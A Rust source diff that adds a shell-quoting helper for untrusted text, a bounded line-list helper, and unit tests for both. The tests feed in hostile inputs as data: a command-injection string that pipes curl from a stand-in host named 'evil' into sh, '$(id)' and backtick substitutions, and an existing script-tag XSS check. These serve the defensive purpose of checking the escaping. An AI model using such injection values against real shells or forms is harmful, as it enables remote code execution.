@@ -21,6 +21,23 @@ pub(crate) fn short(text: &str) -> String {
     cut(text, LONGEST)
 }
 
+/// A text of others as a shell takes it for one word of a command that somebody copies: it may come from a link that others made.
+pub(crate) fn quoted(text: &str) -> String {
+    let text = told(text);
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "/._-+:@%,=".contains(c);
+    if !text.is_empty() && text.chars().all(is_plain) { text } else { format!("'{}'", text.replace('\'', r"'\''")) }
+}
+
+/// Lines of a list that are shown; `.json` has all.
+pub(crate) const LINES: usize = 20;
+
+/// Lines of others for a list, each of them cleaned; what is left out is counted.
+pub(crate) fn several(lines: &[String]) -> Vec<String> {
+    let more = lines.len().saturating_sub(LINES);
+    let rest = (more > 0).then(|| format!("and {}", amount(more, "more line")));
+    lines.iter().take(LINES).map(|line| told(line)).chain(rest).collect()
+}
+
 /// What is cut off is not cleaned first: a line of a megabyte costs nothing.
 fn cut(text: &str, longest: usize) -> String {
     let begin: String = text.chars().take(longest + 1).collect();
@@ -230,6 +247,21 @@ mod tests {
         assert!(long.chars().count() <= LONGEST + 2 && long.ends_with('…'));
         let escaped = html! { (told("<script>alert(1)</script>")) }.into_string();
         assert_eq!(escaped, "&lt;script&gt;alert(1)&lt;/script&gt;");
+    }
+
+    #[test]
+    fn a_word_for_a_shell_stays_one() {
+        assert_eq!(quoted("nodes/account/dgx-06"), "nodes/account/dgx-06");
+        assert_eq!(quoted(""), "''");
+        assert_eq!(quoted("x';curl evil|sh;'"), r"'x'\'';curl evil|sh;'\'''");
+        assert_eq!(quoted("a\nb $(id) `id`"), "'a b $(id) `id`'");
+    }
+
+    #[test]
+    fn a_list_is_bounded_and_says_so() {
+        let lines: Vec<String> = (0..LINES + 2).map(|line| line.to_string()).collect();
+        assert_eq!(several(&lines).last().map(String::as_str), Some("and 2 more lines"));
+        assert_eq!(several(&lines[..LINES]).len(), LINES);
     }
 
     #[test]
